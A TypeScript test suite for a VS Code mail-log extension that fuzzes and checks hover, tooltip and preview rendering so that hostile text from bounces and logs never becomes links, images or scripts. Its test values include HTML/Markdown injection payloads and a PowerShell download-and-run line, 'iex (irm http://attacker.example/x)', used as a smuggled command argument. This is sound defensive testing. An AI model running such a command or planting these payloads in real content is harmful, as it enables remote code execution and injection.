// Issue #10, part 2: text from a document never becomes markup. Every Markdown the product writes
// for synthetic hostile documents (test/support/hostileMarkdownCorpus.ts) is rendered as VS Code
// renders it, and nothing in the HTML may come from the document: no link but our own command
// with the arguments the product built, no image, script, frame or other element.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeHTML } from 'entities';
import fc from 'fast-check';
import { TextDocument } from 'vscode-languageserver-textdocument';
import type { MarkupContent, Position } from 'vscode-languageserver-types';
import { scanReplies } from '../../server/src/detection/replyScanner';
import { investigationActions } from '../../server/src/modes/shared/investigationLinks';
import { getLanguageService } from '../../server/src/languageService';
import { OPEN_POWERSHELL_COMMAND } from '../../server/src/common/protocol';
import { code, commandLink, commandUri, escapeText, MAX_CODE_LENGTH, md, text } from '../../server/src/text/markdown';
import {
  ALL_PAYLOADS, hostileBounce, hostileMailLog, hostileMessageTrace, hostilePlainText, hostileProtocolLog, hostileTrackingLog, PAYLOADS, RECEIVED_WORDS,
} from '../support/hostileMarkdownCorpus';
import { type ExpectedLink, foreignParts, renderHover, renderPreview } from '../support/renderedMarkdown';
import '../support/fuzzSeed';

const service = getLanguageService();

/** The code hover reads this many characters on each side of the cursor (modes/statusCodes/codeHover.ts). */
const HOVER_WINDOW = 512;
/** Hover positions tried per line at most; longer lines are sampled evenly. */
const MAX_POSITIONS_PER_LINE = 400;

/** The start of every token on a line: after a space or a punctuation character, and the line's start. */
function tokenStarts(line: string, cap = MAX_POSITIONS_PER_LINE): number[] {
  const starts = [0];
  for (let i = 1; i < line.length; i++) if (/[\s\p{P}\p{S}]/u.test(line[i - 1]!) !== /[\s\p{P}\p{S}]/u.test(line[i]!) || /[\p{P}\p{S}]/u.test(line[i]!)) starts.push(i);
  if (starts.length <= cap) return starts;
  const step = starts.length / cap;
  return Array.from({ length: cap }, (_, k) => starts[Math.floor(k * step)]!);
}

/** The investigation links a code hover at this position carries, built by the product's own functions. */
function expectedLinksAt(lineText: string, character: number): ExpectedLink[] {
  const from = Math.max(0, character - HOVER_WINDOW);
  const window = lineText.slice(from, character + HOVER_WINDOW);
  const cursor = character - from;
  const mention = scanReplies(window, from === 0).find((m) => m.start <= cursor && cursor < m.end);
  return mention ? investigationActions(mention, window) : [];
}

function assertSafe(html: string, where: string, expected: readonly ExpectedLink[] = []): void {
  const problems = foreignParts(html, expected);
  assert.deepEqual(problems, [], `${where}: ${problems.slice(0, 3).join(' | ')}`);
}

interface Produced { hovers: number; links: number; tooltips: number }

/** Hovers at every token start of every line, rendered with marked; counts what was checked. */
function checkHovers(document: TextDocument, lines?: readonly number[], positionsPerLine = MAX_POSITIONS_PER_LINE): Produced {
  const produced: Produced = { hovers: 0, links: 0, tooltips: 0 };
  for (const line of lines ?? Array.from({ length: document.lineCount }, (_, i) => i)) {
    const lineText = document.getText({ start: { line, character: 0 }, end: { line: line + 1, character: 0 } }).replace(/\r?\n$|\r$/, '');
    for (const character of tokenStarts(lineText, positionsPerLine)) {
      const position: Position = { line, character };
      const hover = service.doHover(document, position);
      if (!hover) continue;
      const markdown = (hover.contents as MarkupContent).value;
      const expected = expectedLinksAt(lineText, character);
      const html = renderHover(markdown);
      assertSafe(html, `hover at ${line}:${character} of ${document.uri}`, expected);
      produced.hovers++;
      produced.links += (html.match(/<a /g) ?? []).length;
    }
  }
  return produced;
}

/** Inlay hint tooltips, rendered with marked. */
function checkTooltips(document: TextDocument, produced: Produced): void {
  for (const hint of service.getInlayHints(document)) {
    if (typeof hint.tooltip !== 'object') continue;
    assertSafe(renderHover(hint.tooltip.value), `tooltip at line ${hint.position.line}`);
    produced.tooltips++;
  }
}

/** The Explain previews (markdown-it, HTML and linkify on) and, to be strict, marked as well: no link at all. */
function checkPreview(markdown: string, where: string): string {
  const html = renderPreview(markdown);
  assertSafe(html, `${where} (preview)`);
  assertSafe(renderHover(markdown), `${where} (marked)`);
  return html;
}

/** A value's text as the renderers show it: control characters and line breaks are spaces. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const shownAs = (value: string): string => value.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ');

const email = (content: string, version = 1) => TextDocument.create(`file:///hostile${version}.eml`, 'email', version, content);
const textContent = (html: string): string => decodeHTML(html.replace(/<[^>]*>/g, ''));
const codeTexts = (html: string): string[] => [...html.matchAll(/<code>([\s\S]*?)<\/code>/g)].map((m) => decodeHTML(m[1]!));

describe('the checker', () => {
  it('flags what the product used to write: raw Received words, a raw Reporting-MTA, foreign links', () => {
    const oldHover = `from \`${RECEIVED_WORDS.from}\` to \`${RECEIVED_WORDS.by}\``;
    const hoverProblems = foreignParts(renderHover(oldHover)).join('\n');
    assert.match(hoverProblems, /<a href="command:mailflowLens\.openPowerShell\?%5B%7B%22text/);
    const oldSummary = 'This is a non-delivery report (`x` <img src=http://attacker.example/p.png> [Fix this bounce](http://attacker.example/) `y`).';
    const problems = foreignParts(renderPreview(oldSummary)).join('\n');
    assert.match(problems, /element <img>/);
    assert.match(problems, /a link to http:\/\/attacker\.example\//);
    assert.match(foreignParts(renderPreview('see http://attacker.example/x')).join('\n'), /a link to http:\/\/attacker\.example\/x/);
    assert.match(foreignParts(renderHover('see www.attacker.example/x')).join('\n'), /a link to http:\/\/www\.attacker\.example/);
    assert.match(foreignParts(renderHover('x <span style="a">y</span>')).join('\n'), /element <span>/);
  });

  it('accepts our own investigation link with the arguments the product built, and no other', () => {
    const line = 'bob@fabrikam.example: 550 5.1.1 user unknown';
    const expected = expectedLinksAt(line, line.indexOf('5.1.1'));
    assert.ok(expected.length > 0);
    const link = commandLink(expected[0]!.title, OPEN_POWERSHELL_COMMAND, expected[0]!.args);
    assert.deepEqual(foreignParts(renderHover(link.value), expected), []);
    const other = commandLink(expected[0]!.title, OPEN_POWERSHELL_COMMAND, [{ snippet: 'iex (irm http://attacker.example/x)' }]);
    assert.match(foreignParts(renderHover(other.value), expected).join(), /did not build/);
  });
});

describe('a hostile bounce', () => {
  const document = email(hostileBounce());

  it('no hover anywhere in it holds a link, an image, HTML or a command from the document', () => {
    const produced = checkHovers(document);
    checkTooltips(document, produced);
    // The corpus reaches the producers: header hovers, code hovers with their links, hop tooltips.
    assert.ok(produced.hovers > 500, `${produced.hovers} hovers`);
    assert.ok(produced.links > 0, 'no code hover carried its investigation links');
    assert.ok(produced.tooltips >= 2, `${produced.tooltips} tooltips`);
  });

  it('the Received hover and its hop tooltip show from, by, with and id as text, and no link', () => {
    const line = document.getText().split('\n').findIndex((l) => l.startsWith('Received: from mx`'));
    const hover = service.doHover(document, { line, character: 3 })!;
    const html = renderHover((hover.contents as MarkupContent).value);
    assertSafe(html, 'Received hover');
    assert.doesNotMatch(html, /<a /);
    const codes = codeTexts(html);
    for (const word of [RECEIVED_WORDS.from, RECEIVED_WORDS.by, RECEIVED_WORDS.id]) assert.ok(codes.includes(word), `${word} not shown as code: ${codes.join(' | ')}`);
    assert.ok(textContent(html).includes(`with ${RECEIVED_WORDS.with}`));
    const tooltip = service.getInlayHints(document).find((h) => h.position.line === line)!.tooltip as MarkupContent;
    const tooltipHtml = renderHover(tooltip.value);
    assert.ok(codeTexts(tooltipHtml).includes(RECEIVED_WORDS.from));
    assert.ok(textContent(tooltipHtml).includes(`with ${RECEIVED_WORDS.with}`));
  });

  it('Explain This Bounce: the preview shows Reporting-MTA and every field as text, and requests nothing', () => {
    const summary = service.explainBounce(document)!;
    const html = checkPreview(summary.markdown, 'bounce summary');
    const mta = shownAs(ALL_PAYLOADS);
    assert.ok(codeTexts(html).includes(`${mta.slice(0, MAX_CODE_LENGTH - 1)}…`), 'Reporting-MTA is not in a code span');
    assert.doesNotMatch(html, /<(img|script|iframe|a)\b/);
    const shown = textContent(html);
    assert.ok(shown.includes(`Reported by: ${mta}`), 'Reporting-MTA is not shown whole as text');
    for (const payload of PAYLOADS) assert.ok(shown.includes(shownAs(payload)), `not shown as text: ${payload}`);
    // Tables keep their columns: a pipe from the document is a character in its cell.
    assert.ok(shown.includes(RECEIVED_WORDS.by), 'the By column lost its pipes');
    const tables = [...html.matchAll(/<table>([\s\S]*?)<\/table>/g)].map((m) => m[1]!);
    assert.ok(tables.length >= 2);
    for (const table of tables) {
      const columns = (table.match(/<th>/g) ?? []).length;
      for (const row of table.split('<tbody>')[1]!.split('</tr>').filter((r) => r.includes('<td'))) assert.equal((row.match(/<td>/g) ?? []).length, columns, row);
    }
  });
});

describe('hostile Exchange logs and plain text', () => {
  it('a tracking log: hovers on every field, none carries markup from the log', () => {
    const produced = checkHovers(TextDocument.create('file:///MSGTRK-hostile.LOG', 'exchange-tracking-log', 1, hostileTrackingLog()));
    assert.ok(produced.hovers > 200 && produced.links > 0, JSON.stringify(produced));
  });

  it('a message trace: hovers on every value, Recipient_status entry and custom_data item, none carries markup from the trace', () => {
    const produced = checkHovers(TextDocument.create('file:///traces/hostile.csv', 'exchange-message-trace', 1, hostileMessageTrace()));
    assert.ok(produced.hovers > 100, JSON.stringify(produced));
  });

  it('a Postfix and Exim mail log: hovers on every token, none carries markup from the log', () => {
    const produced = checkHovers(TextDocument.create('file:///var/log/mail.log', 'mail-log', 1, hostileMailLog()));
    assert.ok(produced.hovers > 50, JSON.stringify(produced));
  });

  it('a protocol log: hovers on every field, the event symbol included', () => {
    const document = TextDocument.create('file:///RECV-hostile.LOG', 'exchange-protocol-log', 1, hostileProtocolLog());
    const produced = checkHovers(document);
    assert.ok(produced.hovers > 100, JSON.stringify(produced));
  });

  it('plain text in every served language: code hovers next to payloads, and Explain a status code', () => {
    const content = hostilePlainText();
    for (const languageId of ['plaintext', 'log', 'email']) {
      const produced = checkHovers(TextDocument.create(`file:///hostile.${languageId}`, languageId, 1, content));
      assert.ok(produced.hovers > 10 && produced.links > 0, `${languageId}: ${JSON.stringify(produced)}`);
    }
    for (const line of content.split('\n')) {
      const markdown = service.explainCodes(line);
      assert.ok(markdown, line.slice(0, 60));
      checkPreview(markdown, `explain ${line.slice(0, 40)}`);
    }
    checkPreview(service.explainCodes(content)!, 'explain the whole text');
  });
});

/** Characters and fragments that make Markdown, HTML and links, plus line breaks and control characters. */
const HOSTILE_ALPHABET = [
  '`', '``', '<', '>', '[', ']', '(', ')', '!', '*', '_', '\\', '|', '#', '&', ';', ':', '/', '@', '.', '"', "'", ' ', '\t', '-', '=', '+', '~', '$', '%', '{', '}',
  'a', 'x', '1', 'img', 'src', 'script', 'href', 'command:', 'mailflowLens.openPowerShell?', 'http://', 'www.', 'javascript:', '&lt;', '&#60;',
  '\n', '\r', '\u2028', '\u0085', '\u000c',
  '<img src=x>', '<img/src=http://x.example/i.png>', '<script>', '</code>', '[a](http://x.example)', '![i](http://x.example/i.png)',
  '<command:mailflowLens.openPowerShell?%5B%5D>', '<http://x.example>', 'www.x.example', 'a@x.example',
];
const hostileString = fc.array(fc.constantFrom(...HOSTILE_ALPHABET), { maxLength: 40 }).map((parts) => parts.join(''));
const FUZZ_RUNS = 60;
/** A fuzzed log row repeats the value in many fields: a sample of its token starts is enough. */
const FUZZ_POSITIONS_PER_LINE = 60;

/** A small bounce: the fuzzed value goes into a Received word, Reporting-MTA and Diagnostic-Code. */
function fuzzedBounce(value: string): string {
  const word = value.replace(/[\s;()[\]]/g, '') || '`';
  return [
    `Received: from ${word} (helo [192.0.2.7]) by ${word} with ${word} id ${word}; Mon, 23 Nov 2026 09:14:05 +0000`,
    `Received: from a by ${value}; Mon, 23 Nov 2026 09:14:00 +0000`,
    'From: postmaster@example.org',
    'Subject: Undeliverable',
    'Date: Mon, 23 Nov 2026 09:13:50 +0000',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
    '',
    '--b',
    'Content-Type: message/delivery-status',
    '',
    `Reporting-MTA: dns; ${value}`,
    '',
    'Final-Recipient: rfc822; bob@fabrikam.example',
    'Action: failed',
    'Status: 5.1.1',
    `Diagnostic-Code: smtp; 550 5.1.1 ${value}`,
    '--b--',
    '',
  ].join('\n');
}

describe('fuzzed hostile values (fast-check)', () => {
  it('a Received header, Reporting-MTA and Diagnostic-Code: hovers, tooltips and the summary stay ours', () => {
    let version = 0;
    fc.assert(fc.property(hostileString, (value) => {
      const document = email(fuzzedBounce(value), ++version);
      const produced = checkHovers(document);
      checkTooltips(document, produced);
      checkPreview(service.explainBounce(document)!.markdown, 'bounce summary');
    }), { numRuns: FUZZ_RUNS });
  });

  it('a tracking-log field: hovers stay ours', () => {
    let version = 0;
    fc.assert(fc.property(hostileString, (value) => {
      const document = TextDocument.create('file:///MSGTRK-fuzz.LOG', 'exchange-tracking-log', ++version, hostileTrackingLog(value, value));
      checkHovers(document, [5, 6, 7], FUZZ_POSITIONS_PER_LINE);
    }), { numRuns: FUZZ_RUNS });
  });
});

describe('code spans', () => {
  it('the fence is longer than any run of backticks inside', () => {
    assert.equal(code('a`b').value, '``a`b``');
    assert.equal(code('x ``` y').value, '````x ``` y````');
    assert.equal(code('`edge`').value, '`` `edge` ``');
    assert.equal(code(' lead').value, '`  lead `');
    assert.equal(code('plain').value, '`plain`');
    assert.equal(code('').value, '');
  });

  it('renders back to the value, line breaks as spaces, in marked and markdown-it (fast-check)', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...HOSTILE_ALPHABET), minLength: 1, maxLength: 30 }), (value) => {
      const expected = shownAs(value);
      if (expected.length > MAX_CODE_LENGTH) return;
      const markdown = md`before ${code(value)} after`.value;
      for (const html of [renderHover(markdown), renderPreview(markdown)]) {
        const codes = codeTexts(html);
        assert.deepEqual(codes, [expected], markdown);
        assertSafe(html, markdown);
      }
    }), { numRuns: 300 });
  });

  it('a very long value is cut with an ellipsis', () => {
    const span = code('x'.repeat(10_000));
    assert.equal(codeTexts(renderHover(span.value))[0], `${'x'.repeat(MAX_CODE_LENGTH - 1)}…`);
  });
});

describe('text escaping', () => {
  it('every ASCII punctuation character is escaped, control characters become spaces', () => {
    assert.equal(escapeText('a<b>[c](d)`e`'), 'a\\<b\\>\\[c\\]\\(d\\)\\`e\\`');
    assert.equal(escapeText('http://x.example a@b.example'), 'http\\:\\/\\/x\\.example a\\@b\\.example');
    assert.equal(escapeText('one\ntwo\r\nthree\u2028four'), 'one two  three four');
  });

  it('escapes every code unit as the CommonMark rule says: each of the first 0x3000 alone, and any string of them (fast-check)', () => {
    // The rule written as two patterns, independently of the one-pass escaper.
    // eslint-disable-next-line no-control-regex -- control characters are what is matched
    const byRule = (value: string) => value.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ').replace(/[!-/:-@[-`{-~]/g, '\\$&');
    for (let unit = 0; unit < 0x3000; unit++) {
      const value = `a${String.fromCharCode(unit)}b`;
      assert.equal(escapeText(value), byRule(value), `U+${unit.toString(16)}`);
    }
    const anyUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
    fc.assert(fc.property(fc.string({ unit: fc.oneof(fc.constantFrom(...HOSTILE_ALPHABET), anyUnit), maxLength: 60 }),
      (value) => assert.equal(escapeText(value), byRule(value))));
  });

  it('renders back to the text in marked and markdown-it, with no markup (fast-check)', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...HOSTILE_ALPHABET, 'é', '·', '✓'), maxLength: 40 }), (value) => {
      const markdown = md`«${text(value)}»`.value;
      const expected = `«${shownAs(value)}»`;
      for (const html of [renderHover(markdown), renderPreview(markdown)]) {
        assertSafe(html, markdown);
        assert.equal(textContent(html).replace(/\n$/, ''), expected, markdown);
      }
    }), { numRuns: 300 });
  });

  it('an interpolated string is escaped, Markdown is kept, a number is written as it is', () => {
    assert.equal(md`**${'*x*'}** ${code('y')} ${42}`.value, '**\\*x\\*** `y` 42');
  });
});

describe('command links', () => {
  it('link only our command; the arguments are JSON with every reserved character percent-encoded', () => {
    const args = [{ snippet: "Get-Recipient -Identity 'a(b)c' ![x]" }] as const;
    const uri = commandUri(OPEN_POWERSHELL_COMMAND, args);
    assert.match(uri, /^command:mailflowLens\.openPowerShell\?[A-Za-z0-9%._-]+$/);
    assert.deepEqual(JSON.parse(decodeURIComponent(uri.slice(uri.indexOf('?') + 1))), args);
    assert.throws(() => commandUri('workbench.action.terminal.sendSequence' as typeof OPEN_POWERSHELL_COMMAND, args), /not a command links may run/);
    const html = renderHover(commandLink('Check [this] <b>', OPEN_POWERSHELL_COMMAND, args).value);
    assert.equal(textContent(html).trim(), 'Check [this] <b>');
    assert.equal(decodeHTML(/href="([^"]*)"/.exec(html)![1]!), uri);
  });
});
